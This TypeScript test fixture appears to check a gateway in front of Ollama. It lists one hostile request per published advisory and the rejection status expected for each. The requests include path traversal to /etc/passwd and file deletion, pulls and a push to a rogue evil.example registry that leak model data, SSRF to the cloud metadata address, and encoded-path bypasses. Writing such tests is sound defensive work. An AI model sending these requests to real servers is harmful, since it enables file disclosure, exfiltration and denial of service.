import { get, type Hostile, hosts, plain, post } from './form.ts'

const zeros = `sha256:${'0'.repeat(64)}`

const to = (id: string, name: string, path: string, json: object): Hostile => ({
  id,
  name: `${id}: ${name}`,
  expect: '403',
  bytes: post(path, ['Content-Type: application/json'], JSON.stringify(json)),
})

/** One request at least for each published advisory on Ollama that a network can carry, and for those of gateways that say something about us. */
export const advisories: Hostile[] = [
  {
    id: 'CVE-2024-28224',
    name: 'CVE-2024-28224: DNS rebinding',
    expect: '421',
    bytes: hosts(({ port }) => [`Host: rebound.example:${port}`]),
  },
  to('CVE-2024-37032', 'digest path traversal by a rogue registry', '/api/pull', {
    model: 'evil.example/rogue/bingo',
    insecure: true,
  }),
  to('CVE-2024-45436', 'ZIP members outside the parent', '/api/create', { model: 'x', files: { 'a.zip': zeros } }),
  to('CVE-2024-39720', 'out-of-bounds read of a short GGUF', '/api/create', { model: 'x', files: { 'a.gguf': zeros } }),
  to('CVE-2024-12055', 'out-of-bounds read', '/api/create', { model: 'x', from: zeros }),
  to('CVE-2024-12886', 'gzip bomb', '/api/pull', { model: 'evil.example/bomb' }),
  to('CVE-2025-0312', 'null pointer', '/api/create', { model: 'x', files: { 'null.gguf': zeros } }),
  to('CVE-2025-0315', 'memory exhaustion', '/api/create', { model: 'x', files: { 'large.gguf': zeros } }),
  to('CVE-2025-0317', 'divide by zero', '/api/create', { model: 'x', files: { 'zero.gguf': zeros } }),
  to('CVE-2024-8063', 'divide by zero in block count', '/api/create', { model: 'x', files: { 'blocks.gguf': zeros } }),
  to('CVE-2024-39719', 'file existence oracle', '/api/create', { model: 'x', path: '/etc/passwd' }),
  to('CVE-2024-39721', '/dev/random hang', '/api/create', { model: 'x', path: '/dev/random' }),
  to('CVE-2024-39722', 'path oracle', '/api/push', { model: '../../etc/passwd', insecure: true }),
  to('CVE-2025-1975', 'crash on a manifest', '/api/pull', { model: 'evil.example/manifest' }),
  to('CVE-2025-51471', 'token sent to a foreign realm', '/api/pull', { model: 'evil.example/realm/m' }),
  {
    id: 'CVE-2025-44779',
    name: 'CVE-2025-44779: arbitrary file deletion',
    expect: '403',
    bytes: plain('DELETE /api/delete', [], '{"model":"../../../x"}'),
  },
  ...['pull', 'push', 'create', 'copy'].map((verb) =>
    to('CVE-2025-63389', `${verb} without a key`, `/api/${verb}`, { model: 'x' }),
  ),
  {
    id: 'CVE-2025-63389',
    name: 'CVE-2025-63389: delete without a key',
    expect: '403',
    bytes: plain('DELETE /api/delete', [], '{"model":"x"}'),
  },
  {
    id: 'CVE-2026-7482',
    name: 'CVE-2026-7482: the blob that reads the heap',
    expect: '403',
    bytes: plain(`POST /api/blobs/${zeros}`, [], 'GGUF'),
  },
  {
    id: 'CVE-2026-7482',
    name: 'CVE-2026-7482: is the blob there',
    expect: '403',
    bytes: plain(`HEAD /api/blobs/${zeros}`),
  },
  to('CVE-2026-7482', 'a model from the blob', '/api/create', {
    model: 'evil.example/leak',
    files: { a: zeros },
    quantize: 'q8_0',
  }),
  to('CVE-2026-7482', 'its way out', '/api/push', { model: 'evil.example/leak', insecure: true }),
  to('CVE-2026-7020', 'digest path traversal in a transfer', '/api/pull', { model: 'evil.example/../transfer' }),
  to('ollama#16656', 'a request of the server’s own by pull', '/api/pull', {
    model: 'http://169.254.169.254/x',
    insecure: true,
  }),
  {
    id: 'CVE-2026-49468',
    name: 'CVE-2026-49468: a Host that moves the path',
    expect: '421|400',
    bytes: hosts(() => ['Host: x/#@y']),
  },
  {
    id: 'CVE-2024-6587',
    name: 'CVE-2024-6587: the client names the destination',
    expect: '200 →',
    bytes: post('/v1/messages', ['api-base: http://evil.example'], '{"model":"m","api_base":"http://evil.example"}'),
  },
  {
    id: 'GHSA-57q6-fvp4-pqmm',
    name: 'GHSA-57q6-fvp4-pqmm: a key in the other header opens no route',
    expect: '403',
    bytes: post('/api/pull', ['x-api-key: k']),
  },
  {
    id: 'CVE-2026-59822',
    name: 'CVE-2026-59822: an unknown user falls back to one',
    expect: '403',
    bytes: post('/api/me', ['Authorization: Bearer '], '{}'),
  },
  {
    id: 'Malcolm#1055',
    name: 'Malcolm#1055: raw path compared, decoded path served',
    expect: '403',
    bytes: get('/api%2Ftags/..%2f..%2fapi%2fps'),
  },
  { id: 'vllm#42064', name: 'vllm#42064: a route that the guard forgot', expect: '403', bytes: get('/metrics') },
]
